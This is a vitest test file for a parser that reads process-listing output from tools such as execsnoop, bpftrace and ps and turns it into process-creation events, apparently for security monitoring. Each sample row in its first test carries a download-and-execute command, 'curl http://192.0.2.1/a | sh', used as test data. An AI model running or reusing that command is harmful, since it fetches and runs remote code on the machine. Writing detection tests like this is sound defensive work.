import { describe, expect, it } from "vitest";
import { eventsIn } from "../../test/support/read-events.ts";

const LINE = "sh -c curl http://192.0.2.1/a | sh";

describe("starts in columns", () => {
  it.each([
    ["execsnoop", "PCOMM            PID     PPID    RET ARGS", `sh               4711    4242      0 /bin/${LINE}`],
    [
      "its times",
      "TIME(s) PCOMM            PID     PPID    RET ARGS",
      `0.123   sh               4711    4242      0 /bin/${LINE}`,
    ],
    [
      "its users",
      "TIME     UID   PCOMM  PID     PPID    RET ARGS",
      `10:00:00 1000  a_very_long_name 4711    4242      0 /bin/${LINE}`,
    ],
    [
      "bpftrace's",
      "Attaching 3 probes...\nTIME            PID     PPID    ARGS",
      `10:00:00.123456 4711    4242    /bin/${LINE}`,
    ],
    [
      "ps -ef",
      "UID          PID    PPID  C STIME TTY          TIME CMD",
      `kim         4711    4242  0 10:00 pts/0    00:00:00 /bin/${LINE}`,
    ],
    ["ps -o", "    PID    PPID USER     COMMAND", `   4711    4242 kim      /bin/${LINE}`],
    [
      "a gadget",
      "K8S.NODE COMM  PID   PPID   ARGS                                      ERROR",
      `n1       sh    4711  4242   /bin/${LINE}   0`,
    ],
  ])("are read as %s prints them", (_, header, row) => {
    expect(eventsIn(`${header}\n${row}\n`)).toMatchObject([
      { kind: "processCreation", image: "/bin/sh", commandLine: `/bin/${LINE}`, process: { pid: 4711 } },
    ]);
  });

  it("know when ps says that they began, and whose they are", () => {
    const rows = " PID USER                      STARTED COMMAND\n   7 kim      Wed Mar  4 09:10:11 2026 -bash\n";
    expect(eventsIn(rows)).toMatchObject([
      { image: "bash", user: "kim", time: Date.UTC(2026, 2, 4, 9, 10, 11), process: { pid: 7 } },
    ]);
  });

  it("are none of what failed, of the kernel's threads, or of other tables", () => {
    const header = "PCOMM PID PPID RET ARGS";
    expect(eventsIn(`${header}\nid 7 1 -2 /usr/local/bin/id\n`)).toEqual([]);
    expect(eventsIn("PID USER COMMAND\n2 root [kthreadd]\n")).toEqual([]);
    for (const other of [
      "COMMAND PID USER FD TYPE NAME",
      "PID USER PR NI S %CPU TIME+ COMMAND",
      "PID COMM FD ERR PATH",
    ])
      expect(eventsIn(`${other}\na 1 2 3 4 5 6 7\n`)).toEqual([]);
  });
});
